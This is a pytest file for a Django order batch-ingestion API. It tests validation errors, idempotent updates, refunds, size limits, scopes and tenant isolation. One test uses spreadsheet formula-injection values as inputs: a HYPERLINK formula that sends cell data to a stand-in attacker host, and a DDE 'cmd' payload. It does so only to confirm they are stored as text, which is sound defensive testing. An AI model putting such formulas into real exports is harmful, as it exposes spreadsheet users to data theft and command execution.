"""POST /api/v1/orders/batch/: up to 1,000 orders answered one by one (created / updated / unchanged / error)."""

import gc
from decimal import Decimal

import pytest

from catalog.models import Product
from merchants.models import ApiScope
from sales import api as sales_api
from sales.ingest.runtime import INGEST_GC_THRESHOLD
from sales.models import Order, OrderLine

from ..factories import ProductFactory, StoreFactory
from .conftest import errors_of
from .orders_helpers import BATCH_URL, online_order, order, post_batch, results_of, sale

pytestmark = pytest.mark.django_db


@pytest.fixture
def store(merchant):
    return StoreFactory(merchant=merchant, code="PAR-01", name="Paris Marais", timezone="Europe/Paris")


def test_created_then_unchanged_then_updated(api_client, merchant, store):
    # Given a batch of an in-store order and an online one
    batch = [order("ORD-1"), online_order("WEB-1")]

    # When it is sent
    response = post_batch(api_client, batch)

    # Then both are created, in the order sent
    assert results_of(response) == [(0, "ORD-1", "created", []), (1, "WEB-1", "created", [])]
    assert response.json()["summary"] == {"created": 2, "updated": 0, "unchanged": 0, "error": 0}
    stored = Order.objects.get(merchant=merchant, source="api", external_id="ORD-1")
    assert (stored.channel, stored.store_id, stored.currency, stored.status) == (
        "offline",
        store.pk,
        "EUR",
        "completed",
    )
    assert (stored.gross, stored.discounts, stored.refunds, stored.tax, stored.net) == (
        Decimal("51.80"),
        Decimal("1.00"),
        Decimal("0.00"),
        Decimal("8.63"),
        Decimal("50.80"),
    )
    assert list(
        OrderLine.objects.filter(order=stored).order_by("line_number").values_list("product__sku", "quantity", "net")
    ) == [("TEE-1", Decimal("2.000"), Decimal("38.80")), ("MUG-1", Decimal("1.000"), Decimal("12.00"))]

    # When the same batch is sent again
    again = post_batch(api_client, batch)

    # Then nothing changes
    assert results_of(again) == [(0, "ORD-1", "unchanged", []), (1, "WEB-1", "unchanged", [])]
    assert Order.objects.filter(merchant=merchant).count() == 2

    # When one order changes (a quantity)
    changed = [order("ORD-1", lines=[sale("TEE-1", "3", "19.90", discount="1.00"), sale("MUG-1", "1", "12.00")])]
    changed.append(online_order("WEB-1"))
    response = post_batch(api_client, changed)

    # Then it is updated in place, its lines replaced, the other left alone
    assert results_of(response) == [(0, "ORD-1", "updated", []), (1, "WEB-1", "unchanged", [])]
    assert response.json()["summary"] == {"created": 0, "updated": 1, "unchanged": 1, "error": 0}
    stored.refresh_from_db()
    assert (stored.gross, stored.net) == (Decimal("71.70"), Decimal("70.70"))
    assert OrderLine.objects.filter(order=stored).count() == 2
    assert Order.objects.filter(merchant=merchant).count() == 2


def test_each_bad_field_is_named_by_its_json_path(api_client, merchant, store):
    # Given a batch where some orders have mistakes and others are fine
    batch = [
        order("OK-1"),
        order("BAD-QTY", lines=[sale("TEE-1"), sale("MUG-1", quantity="abc")]),
        order("BAD-STORE", store="NOPE-99"),
        order("BAD-CURRENCY", currency="USD"),
        order("NAIVE", placed_at="2024-05-04T15:42:10"),
        order("NEG", lines=[sale("TEE-1", quantity="-1")]),
        order("PRICE", lines=[sale("TEE-1", unit_price="-0.01"), sale("MUG-1", unit_price="1.005")]),
        order("CHANNEL", channel="web", status="void"),
        order("NO-STORE", store=None),
        order("NO-LINES", lines=[]),
        {"channel": "online"},
        "not an order",
        order("OK-2", placed_at="2024-03-31T02:30:00+02:00"),  # a local time that doesn't exist in Paris, but
        # with its offset it is one exact instant: no ambiguity, no error
    ]

    # When it is sent
    response = post_batch(api_client, batch)

    # Then every mistake comes back with its path and code, and only the good orders are written
    assert results_of(response) == [
        (0, "OK-1", "created", []),
        (1, "BAD-QTY", "error", [("orders.1.lines.1.quantity", "invalid")]),
        (2, "BAD-STORE", "error", [("orders.2.store", "unknown_store")]),
        (3, "BAD-CURRENCY", "error", [("orders.3.currency", "currency_mismatch")]),
        (4, "NAIVE", "error", [("orders.4.placed_at", "naive_datetime")]),
        (5, "NEG", "error", [("orders.5.lines.0.quantity", "min_value")]),
        (
            6,
            "PRICE",
            "error",
            [("orders.6.lines.0.unit_price", "min_value"), ("orders.6.lines.1.unit_price", "max_decimal_places")],
        ),
        (7, "CHANNEL", "error", [("orders.7.channel", "invalid_choice"), ("orders.7.status", "invalid_choice")]),
        (8, "NO-STORE", "error", [("orders.8.store", "required")]),
        (9, "NO-LINES", "error", [("orders.9.lines.non_field_errors", "min_length")]),
        (
            10,
            None,
            "error",
            [
                ("orders.10.external_id", "required"),
                ("orders.10.placed_at", "required"),
                ("orders.10.currency", "required"),
                ("orders.10.lines", "required"),
            ],
        ),
        (11, None, "error", [("orders.11.non_field_errors", "invalid")]),
        (12, "OK-2", "created", []),
    ]
    assert response.json()["summary"] == {"created": 2, "updated": 0, "unchanged": 0, "error": 11}
    assert sorted(Order.objects.filter(merchant=merchant).values_list("external_id", flat=True)) == ["OK-1", "OK-2"]
    errors = {item["index"]: item["errors"] for item in response.json()["results"]}
    assert errors[3][0]["detail"] == (
        "This order is in USD, but this merchant sells in EUR: send orders in the merchant's currency."
    )
    assert "NOPE-99" in errors[2][0]["detail"]


def test_an_order_with_an_error_is_not_written_at_all(api_client, merchant, store):
    # Given an order whose second line is bad
    bad = order("HALF", lines=[sale("NEW-SKU-1"), sale("NEW-SKU-2", quantity="0")])

    # When it is sent
    response = post_batch(api_client, [bad])

    # Then nothing of it exists: no order, no line, not even the placeholder product of its good line
    assert results_of(response) == [(0, "HALF", "error", [("orders.0.lines.1.quantity", "min_value")])]
    assert not Order.objects.filter(merchant=merchant).exists()
    assert not OrderLine.objects.filter(merchant=merchant).exists()
    assert not Product.objects.filter(merchant=merchant).exists()


def test_duplicate_external_ids_in_one_batch_are_errors_on_the_later_ones(api_client, merchant, store):
    batch = [
        order("DUP"),
        order("OTHER"),
        order("DUP", tax="1.00"),
        order(" DUP "),  # the same id once stripped
        order("DUP", source="shopify"),  # another source: another order
    ]

    response = post_batch(api_client, batch)

    assert results_of(response) == [
        (0, "DUP", "created", []),
        (1, "OTHER", "created", []),
        (2, "DUP", "error", [("orders.2.external_id", "duplicate")]),
        (3, "DUP", "error", [("orders.3.external_id", "duplicate")]),
        (4, "DUP", "created", []),
    ]
    assert response.json()["results"][2]["errors"][0]["detail"] == "Order api:DUP is already in this batch at index 0."
    assert Order.objects.get(merchant=merchant, source="api", external_id="DUP").tax == Decimal("8.63")


def test_formula_like_text_is_stored_as_text(api_client, merchant, store):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    batch = [order("=1+1", lines=[sale("@SUM(A1)", name=formula)], customer={"name": "+cmd|' /C calc'!A0"})]

    response = post_batch(api_client, batch)

    assert results_of(response) == [(0, "=1+1", "created", [])]
    product = Product.objects.get(merchant=merchant, sku="@SUM(A1)")
    assert (product.name, product.is_placeholder) == (formula, True)
    assert Order.objects.filter(merchant=merchant, external_id="=1+1").exists()


def test_known_skus_are_matched_and_unknown_ones_become_placeholders(api_client, merchant, store):
    known = ProductFactory(merchant=merchant, sku="TEE-1", name="Organic tee")

    response = post_batch(api_client, [order("ORD-1")])

    assert results_of(response)[0][2] == "created"
    lines = OrderLine.objects.filter(merchant=merchant).order_by("line_number")
    assert [line.product_id for line in lines][0] == known.pk
    placeholder = Product.objects.get(merchant=merchant, sku="MUG-1")
    assert (placeholder.name, placeholder.is_placeholder) == ("Product MUG-1", True)


def test_numbers_are_accepted_for_ids_and_amounts(api_client, merchant, store):
    # JSON numbers work too (Shopify ids are numbers); money is still best sent as strings
    batch = [order(1042, lines=[{"sku": 4006381333931, "quantity": 2, "unit_price": 19.9}], tax=0)]

    response = post_batch(api_client, batch)

    assert results_of(response) == [(0, "1042", "created", [])]
    line = OrderLine.objects.get(merchant=merchant)
    assert (line.product.sku, line.quantity, line.unit_price) == ("4006381333931", Decimal("2.000"), Decimal("19.90"))


def test_a_return_line_and_a_cancelled_order(api_client, merchant, store):
    batch = [
        order(
            "RET-1",
            lines=[
                sale("TEE-1", "2", "19.90"),
                sale("TEE-1", "-1", "19.90", kind="return", returned_at="2024-05-06T10:00:00+02:00"),
            ],
        ),
        order("CANCELLED", status="cancelled"),
        order("BAD-RET", lines=[sale("TEE-1", "1", "19.90", kind="return")]),
    ]

    response = post_batch(api_client, batch)

    assert results_of(response) == [
        (0, "RET-1", "created", []),
        (1, "CANCELLED", "created", []),
        (2, "BAD-RET", "error", [("orders.2.lines.0.quantity", "max_value")]),
    ]
    stored = Order.objects.get(merchant=merchant, external_id="RET-1")
    assert (stored.gross, stored.refunds, stored.net) == (Decimal("39.80"), Decimal("19.90"), Decimal("19.90"))
    assert Order.objects.get(merchant=merchant, external_id="CANCELLED").status == "cancelled"


def test_a_refund_without_item_detail_counts_on_its_own_day_and_reads_back(api_client, merchant, store):
    # Given an in-store sale of two tees, then a 5.00 goodwill refund two days later and one on the day
    refunds = [{"amount": "5.00", "refunded_at": "2024-05-06T10:00:00+02:00"}, {"amount": 1.5}]
    batch = [order("REF-1", lines=[sale("TEE-1", "2", "19.90")], refunds=refunds)]

    # When it is sent, then sent again
    first, again = post_batch(api_client, batch), post_batch(api_client, batch)

    # Then it is created once, then unchanged; the refunds are return lines without a product, on their days
    assert results_of(first) == [(0, "REF-1", "created", [])]
    assert results_of(again) == [(0, "REF-1", "unchanged", [])]
    stored = Order.objects.get(merchant=merchant, external_id="REF-1")
    assert (stored.gross, stored.refunds, stored.net) == (Decimal("39.80"), Decimal("6.50"), Decimal("33.30"))
    returns = OrderLine.objects.filter(order=stored, kind="return").order_by("line_number")
    assert [(line.product_id, line.net, str(line.local_date)) for line in returns] == [
        (None, Decimal("-5.00"), "2024-05-06"),
        (None, Decimal("-1.50"), str(stored.local_date)),
    ]
    read = api_client.get("/api/v1/orders/api/REF-1/").json()
    assert [(line["kind"], line["sku"], line["net"]) for line in read["lines"]][1:] == [
        ("return", None, "-5.00"),
        ("return", None, "-1.50"),
    ]


def test_a_bad_refund_is_named_by_its_json_path(api_client, merchant, store):
    batch = [order("REF-2", refunds=[{"amount": "1.00"}, {"amount": "-2"}])]
    assert results_of(post_batch(api_client, batch)) == [
        (0, "REF-2", "error", [("orders.0.refunds.1.amount", "min_value")])
    ]
    assert not Order.objects.filter(merchant=merchant, external_id="REF-2").exists()


# --- the body as a whole ------------------------------------------------------------------------


def test_more_than_a_thousand_orders_is_refused_with_a_clear_error(api_client, merchant, store):
    response = post_batch(api_client, [order(f"ORD-{n}") for n in range(1001)])

    assert response.status_code == 400
    assert response.json() == {
        "type": "validation_error",
        "errors": [
            {
                "code": "max_length",
                "detail": "A batch takes at most 1,000 orders (1,001 sent): split it into several.",
                "attr": "orders.non_field_errors",
            }
        ],
    }
    assert not Order.objects.exists()


@pytest.mark.parametrize(
    ("case", "body", "expected"),
    [
        ("no orders key", {}, [("required", "orders")]),
        ("null orders", {"orders": None}, [("null", "orders")]),
        ("orders not a list", {"orders": {"a": 1}}, [("not_a_list", "orders.non_field_errors")]),
        ("empty list", {"orders": []}, [("min_length", "orders.non_field_errors")]),
        ("a list body", [order()], [("invalid", "non_field_errors")]),
    ],
)
def test_a_malformed_body_answers_400(api_client, case, body, expected):
    response = api_client.post(BATCH_URL, body, format="json")
    assert response.status_code == 400
    assert errors_of(response) == expected


def test_invalid_json_answers_400_parse_error(api_client):
    response = api_client.post(BATCH_URL, b'{"orders": [', content_type="application/json")
    assert response.status_code == 400
    assert errors_of(response) == [("parse_error", None)]
    assert response.json()["type"] == "client_error"


def test_another_media_type_answers_415(api_client):
    response = api_client.post(BATCH_URL, "orders=1", content_type="application/x-www-form-urlencoded")
    assert response.status_code == 415
    assert errors_of(response) == [("unsupported_media_type", None)]


def test_server_timing_says_where_the_time_went(api_client, store):
    response = post_batch(api_client, [order()])
    names = [part.split(";")[0] for part in response.headers["Server-Timing"].split(", ")]
    assert names == ["parse", "validate", "ingest"]


def test_the_whole_batch_runs_with_the_ingests_relaxed_collector_thresholds(api_client, store, monkeypatch):
    seen = []
    validate = sales_api.batch_validate

    def spy(*args, **kwargs):
        seen.append(gc.get_threshold())
        return validate(*args, **kwargs)

    monkeypatch.setattr(sales_api, "batch_validate", spy)
    before = gc.get_threshold()
    assert results_of(post_batch(api_client, [order()]))[0][2] == "created"
    assert seen == [INGEST_GC_THRESHOLD]  # validation too, not only the service's ingest
    assert gc.get_threshold() == before  # restored after the request


# --- scopes and tenancy -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "scopes", "status"),
    [
        ("write scope", [ApiScope.SALES_WRITE], 200),
        ("read scope only", [ApiScope.SALES_READ], 403),
        ("other scopes", [ApiScope.STORES_WRITE, ApiScope.CATALOG_WRITE], 403),
    ],
)
def test_the_batch_needs_sales_write(make_api_client, merchant, store, case, scopes, status):
    client = make_api_client(merchant, scopes)
    response = post_batch(client, [order()])
    assert response.status_code == status
    if status == 403:
        assert response.json()["errors"][0]["detail"] == "This API key lacks the scope(s): sales:write."
        assert not Order.objects.exists()


def test_without_a_key_the_batch_answers_401(client):
    response = client.post(BATCH_URL, {"orders": [order()]}, content_type="application/json")
    assert response.status_code == 401


def test_a_batch_writes_to_the_keys_merchant_only(api_client, other_api_client, merchant, other_merchant, store):
    # Given both merchants have a store PAR-01 and merchant A has order ORD-1
    StoreFactory(merchant=other_merchant, code="PAR-01")
    assert results_of(post_batch(api_client, [order("ORD-1")]))[0][2] == "created"

    # When merchant B sends an order with the same id (and other values)
    response = post_batch(other_api_client, [order("ORD-1", tax="0.00")])

    # Then B gets its own order and A's is untouched
    assert results_of(response)[0][2] == "created"
    assert Order.objects.get(merchant=merchant, external_id="ORD-1").tax == Decimal("8.63")
    assert Order.objects.get(merchant=other_merchant, external_id="ORD-1").tax == Decimal("0.00")


def test_another_merchants_store_code_is_unknown(api_client, other_merchant, merchant):
    StoreFactory(merchant=other_merchant, code="BETA-01")
    response = post_batch(api_client, [order("ORD-1", store="BETA-01")])
    assert results_of(response) == [(0, "ORD-1", "error", [("orders.0.store", "unknown_store")])]


def test_a_body_over_the_size_limit_answers_400(api_client, settings, store):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4096
    response = post_batch(api_client, [order(f"ORD-{n}") for n in range(20)])
    assert response.status_code == 400
    assert errors_of(response) == [("parse_error", None)]
    assert response.json()["errors"][0]["detail"] == "The body is larger than 4,096 bytes: send fewer orders per batch."
    assert not Order.objects.exists()
